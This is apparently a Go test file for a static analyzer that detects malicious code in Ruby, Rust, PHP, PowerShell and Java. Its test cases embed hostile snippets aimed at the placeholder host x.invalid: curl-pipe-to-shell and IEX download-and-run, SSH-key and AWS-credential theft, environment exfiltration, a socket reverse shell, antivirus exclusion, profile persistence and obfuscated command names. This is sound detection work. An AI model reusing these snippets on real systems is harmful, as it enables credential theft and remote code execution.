package lexical_test

import (
	"strings"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code"
	"github.com/gatehouse-project/gatehouse/internal/code/codetest"
	"github.com/gatehouse-project/gatehouse/internal/code/lexical"
)

var cases = []struct {
	lang code.Language
	why  string
	src  string
	want []string
}{
	{code.Ruby, "a command", `system("curl http://x.invalid/a | sh")`, []string{"exec system [curl http://x.invalid/a | sh]", "embed shell: curl http://x.invalid/a | sh"}},
	{code.Ruby, "without brackets", "system 'true'", []string{"exec system [true]"}},
	{code.Ruby, "backquotes", "x = `uname -a`", []string{"exec ` [uname -a]"}},
	{code.Ruby, "a percent literal", "%x(uname -a)", []string{"exec ` [uname -a]"}},
	{code.Ruby, "a download that is evaluated", "require 'net/http'\neval(Net::HTTP.get(URI('http://x.invalid/a')))", []string{"eval eval <fetch", "fetch Net::HTTP.get [http://x.invalid/a]", "import require [net/http]"}},
	{code.Ruby, "decoded and evaluated", `eval Base64.decode64("cHV0cyAnaW5lcnQn")`, []string{"eval eval [puts 'inert'] <decode !", "embed ruby: puts 'inert'"}},
	{code.Ruby, "by a symbol", "Kernel.send(:system, 'true')", []string{"exec system [true] !"}},
	{code.Ruby, "the environment goes out", "Net::HTTP.post_form(URI('http://x.invalid'), ENV.to_h)", []string{"send Net::HTTP.post_form [http://x.invalid] <env-all", "env-all ENV.to_h"}},
	{code.Ruby, "a secret", "x = File.read(File.expand_path('~/.ssh/id_rsa'))", []string{"no exec"}},
	{code.Ruby, "a secret by its path", "x = File.read('/home/u/.ssh/id_rsa')", []string{"secret File.read [/home/u/.ssh/id_rsa]"}},
	{code.Ruby, "written and run", "File.write('/tmp/a.sh', URI.open('http://x.invalid/a').read)\nsystem('sh /tmp/a.sh')", []string{"write-file File.write [/tmp/a.sh] <fetch", "exec system [sh /tmp/a.sh] <file:fetch"}},
	{code.Ruby, "comments and quotes", "# system('x')\nputs \"system('y') # not a comment\"\n=begin\nsystem('z')\n=end\n", []string{"no exec"}},
	{code.Ruby, "a method", "def go\n  if x\n    system('true')\n  end\nend\nsystem('false')", []string{"exec system [true] @go ~call", "exec system [false]"}},
	{code.Ruby, "a name put together", "send('sys' + 'tem', 'true')", []string{"exec system [true] !"}},
	{code.Rust, "a build script", "use std::process::Command;\nfn main() {\n let o = Command::new(\"sh\").arg(\"-c\").arg(\"curl http://x.invalid/a | sh\").output().unwrap();\n}", []string{"exec std::process::Command::new [sh|-c|curl http://x.invalid/a | sh] @main", "embed shell: 'sh' '-c' 'curl http://x.invalid/a | sh'"}},
	{code.Rust, "an alias", "use std::{process::Command as C, env};\nfn main() { C::new(\"true\").spawn(); env::vars(); }", []string{"exec std::process::Command::new [true] @main", "env-all std::env::vars @main"}},
	{code.Rust, "raw texts and lifetimes", "fn f<'a>(x: &'a str) { let y = r#\"Command::new(\"x\")\"#; /* Command::new(\"z\") */ }", []string{"no exec"}},
	{code.Rust, "a secret", "fn main() { let k = std::fs::read_to_string(\"/home/u/.ssh/id_rsa\").unwrap(); }", []string{"secret std::fs::read_to_string [/home/u/.ssh/id_rsa] @main"}},
	{code.Rust, "a macro run by the compiler", "#[proc_macro]\npub fn m(x: T) -> T { std::fs::write(\"a\", \"b\"); x }\nfn n() { std::fs::write(\"c\", \"d\"); }", []string{"write-file std::fs::write [a] @m", "write-file std::fs::write [c] @n ~call"}},
	{code.PHP, "eval of a decoded text", "<p>eval(x)</p><?php eval(base64_decode('ZWNobyAiaW5lcnQiOw==')); ?> system('x')", []string{`eval eval [echo "inert";] <decode !`, `embed php: echo "inert";`, "no exec"}},
	{code.Ruby, "backquotes in a regular expression", "if line =~ /(.*?):(in `(.*)')?/\n  x\nend\nputs 'a'", []string{"no exec"}},
	{code.Ruby, "backquotes behind a regular expression", "x = y if z =~ /a`b/\nw = `uname -a`", []string{"exec ` [uname -a]"}},
	{code.Ruby, "backquotes between divisions", "a = b / c; `uname -a`; d = e / f", []string{"exec ` [uname -a]"}},
	{code.Ruby, "an escaped slash", "x if y =~ /a\\/`b/; `uname -a`", []string{"exec ` [uname -a]"}},
	{code.PHP, "a variable function", "<?php $f = 'sys'.'tem'; $f('true');", []string{"exec system [true] !"}},
	{code.PHP, "backquotes", "<?php $x = `uname -a`;", []string{"exec ` [uname -a]"}},
	{code.PHP, "a download", "<?php $x = file_get_contents('http://x.invalid/a'); eval($x);", []string{"fetch file_get_contents [http://x.invalid/a]", "eval eval <fetch"}},
	{code.PHP, "comments", "<?php // system('x')\n# system('y')\n/* system('z') */ echo 'system(\"a\")';", []string{"no exec"}},
	{code.PHP, "upper case", "<?php SYSTEM('true');", []string{"exec system [true]"}},
	{code.PowerShell, "a download that is run", "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')", []string{"eval iex <fetch", "fetch .downloadstring [http://x.invalid/a]"}},
	{code.PowerShell, "a pipe", "iwr -Uri http://x.invalid/a -UseBasicParsing | iex", []string{"eval iex <fetch", "fetch iwr [http://x.invalid/a]"}},
	{code.PowerShell, "by a variable", "$u = 'http://x.invalid/a'\n$s = Invoke-RestMethod $u\nInvoke-Expression $s", []string{"eval invoke-expression <fetch", "fetch invoke-restmethod [http://x.invalid/a]"}},
	{code.PowerShell, "a name put together", "& ('i'+'ex') 'true'", []string{"eval iex [true] !"}},
	{code.PowerShell, "ticks", "i`e`x 'true'", []string{"eval iex [true]"}},
	{code.PowerShell, "written and started", "Invoke-WebRequest http://x.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe -WindowStyle Hidden", []string{"write-file invoke-webrequest [$env:TEMP\\a.exe] <fetch", "silence start-process [-WindowStyle Hidden]"}},
	{code.PowerShell, "comments", "# iex x\n<# iex y #>\nWrite-Host 'iex z'", []string{"no eval"}},
	{code.PowerShell, "security software", "Add-MpPreference -ExclusionPath 'C:\\'", []string{"tamper add-mppreference [C:\\]"}},
	{code.Java, "a process", "class A { static { Runtime.getRuntime().exec(\"true\"); } }", []string{"exec .exec [true]"}},
	{code.Java, "in a method", "import java.net.URLClassLoader;\nclass A { void f() throws X { new URLClassLoader(u); } }", []string{"eval java.net.URLClassLoader @f ~call", "import java.net.URLClassLoader"}},
	{code.Ruby, "letters deleted", "system('c-u-r-l'.delete('-'))", []string{"exec system [curl] !"}},
	{code.Ruby, "letters replaced", "system('tXrXuXe'.gsub('X', ''))", []string{"exec system [true] !"}},
	{code.Ruby, "pairs of digits", "system(%w[74 72 75 65].map { |x| x.hex.chr }.join)", []string{"exec system [true] !"}},
	{code.Ruby, "numbers that are turned", "system([115, 117, 114, 98].map { |x| (x ^ 7).chr }.join)", []string{"exec system [true] !"}},
	{code.Ruby, "numbers packed", "system([116, 114, 117, 101].pack('C*'))", []string{"exec system [true] <decode !"}},
	{code.Ruby, "letters in turn", "system('eurt'.chars.reverse.join)", []string{"exec system [true] !"}},
	{code.Ruby, "a format", "system('%s%s' % ['tr', 'ue'])", []string{"exec system [true] !"}},
	{code.Ruby, "a function of the file", "def open_up(x)\n  x.tr('b-z', 'a-y')\nend\nsystem(open_up('usvf'))", []string{"exec system [true] <decode !"}},
	{code.Ruby, "a list of files", "found = %w[~/.ssh/id_rsa ~/.aws/credentials].map { |n| File.read(File.expand_path(n)) }\nNet::HTTP.post(URI('http://x.invalid'), found.join)", []string{"send Net::HTTP.post [http://x.invalid] <computed,read-file,secret"}},
	{code.Ruby, "each of a list", "%w[.ssh .aws].each do |n|\n  Faraday.post('http://x.invalid', IO.read(File.join(Dir.home, n, 'credentials')))\nend", []string{"secret IO.read [~/.aws/credentials]"}},
	{code.Ruby, "lines of a connection", "s = TCPSocket.new('x.invalid', 4444)\nwhile (line = s.gets)\n  IO.popen(line) { |io| s.print io.read }\nend", []string{"exec IO.popen <socket"}},
	{code.Ruby, "a request that is filled", "r = Net::HTTP::Get.new(URI('http://x.invalid'))\nr['X-A'] = ENV.to_h.to_s", []string{"send Net::HTTP::Get.new [http://x.invalid] <env-all"}},
	{code.Ruby, "a shell's input", "IO.popen('sh', 'w') { |io| io.write(Net::HTTP.get(URI('http://x.invalid'))) }", []string{"exec write <fetch"}},
	{code.Ruby, "a temporary file that runs", "f = Tempfile.new('a')\nf.write(URI.open('http://x.invalid').read)\nsystem(f.path)", []string{"exec system [/tmp/temporary] <file:fetch"}},
	{code.Rust, "letters backwards", "fn main() { std::process::Command::new(\"eurt\".chars().rev().collect::<String>()).spawn(); }", []string{"exec std::process::Command::new [true] @main !"}},
	{code.Rust, "letters", "fn main() { std::process::Command::new(['t', 'r', 'u', 'e'].iter().collect::<String>()).spawn(); }", []string{"exec std::process::Command::new [true] @main !"}},
	{code.Rust, "numbers that are turned", "fn main() { let n: String = [115u8, 117, 114, 98].iter().map(|b| (b ^ 7) as char).collect(); std::process::Command::new(n).spawn(); }", []string{"exec std::process::Command::new [true] @main !"}},
	{code.Rust, "added to a profile", "use std::{fs::OpenOptions, io::Write};\nfn main() { let h = std::env::var(\"HOME\").unwrap(); let mut f = OpenOptions::new().append(true).open(format!(\"{h}/.bashrc\")).unwrap(); writeln!(f, \"true\"); }", []string{"persist .open [~/.bashrc] @main"}},
	{code.Rust, "a request with a body", "fn main() { let k = std::fs::read_to_string(dirs::home_dir().unwrap().join(\".ssh\").join(\"id_rsa\")).unwrap(); reqwest::blocking::Client::new().post(\"http://x.invalid\").body(k).send(); }", []string{"send reqwest::blocking::Client::new.post.body [http://x.invalid] <read-file,secret @main"}},
	{code.Rust, "a header", "fn main() { ureq::get(\"http://x.invalid\").set(\"X-A\", &std::env::var(\"TOKEN\").unwrap()).call(); }", []string{"send ureq::get.set [http://x.invalid] <env @main"}},
	{code.Rust, "a shell's input", "use std::process::{Command, Stdio};\nfn main() { let t = ureq::get(\"http://x.invalid\").call().unwrap().into_string().unwrap(); let mut c = Command::new(\"sh\").stdin(Stdio::piped()).spawn().unwrap(); c.stdin.take().unwrap().write_all(t.as_bytes()); }", []string{"exec write_all <fetch @main"}},
	{code.Rust, "a function of the file", "fn give(x: &str) { std::process::Command::new(x).spawn(); }\nfn main() { give(\"true\"); }", []string{"exec std::process::Command::new [true] @give"}},
	{code.Rust, "more than is put together", "fn main() { let x = \" \".repeat(4294967296); std::process::Command::new(x).spawn(); }", []string{"exec std::process::Command::new @main"}},
	{code.PHP, "letters replaced", "<?php system(str_replace('-', '', 't-r-u-e'));", []string{"exec system [true] !"}},
	{code.PHP, "a function of the file", "<?php function f($x) { return base64_decode($x); } system(f('dHJ1ZQ=='));", []string{"exec system [true] <decode !"}},
	{code.PHP, "a format", "<?php system(sprintf('%s%s', 'tr', 'ue'));", []string{"exec system [true] !"}},
}

func TestAnalyze(t *testing.T) {
	t.Parallel()
	for _, c := range cases {
		got := codetest.Show(lexical.Analyze(c.lang, []byte(c.src)))
		for _, w := range codetest.Lacks(got, c.want) {
			t.Errorf("%s, %s: %s\nlacks %s\ngot\n%s", c.lang, c.why, c.src, w, strings.Join(got, "\n"))
		}
	}
}

var languages = []code.Language{code.Ruby, code.Rust, code.PHP, code.PowerShell, code.Java}

// TestHostileSources would not end in time if work were not linear, or overflow the
// stack if depth were not bounded.
func TestHostileSources(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"(", "f(", "a.", "a::", "[", "{", "'", "\"#{", "x=x+x;", "x.=$x.$x;", "<<A\n", "%w(", "def f\n", "fn f(", "r#", "/*", "a=a+\"bcdefgh\"\n", "$x=$x+$x\n", "& ('", "|", "system ", "a b,"} {
		src := []byte("<?php " + strings.Repeat(unit, 1<<16/len(unit)))
		for _, l := range languages {
			lexical.Analyze(l, src)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, c := range cases {
		f.Add([]byte(c.src))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		for _, l := range languages {
			lexical.Analyze(l, src)
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	src := []byte(strings.Repeat("  def each_item(list)\n    list.map do |item|\n      next if item.nil?\n      yield item.name, \"#{item.value} of #{list.size}\"\n    end\n  end\n", 4000))
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		lexical.Analyze(code.Ruby, src)
	}
}
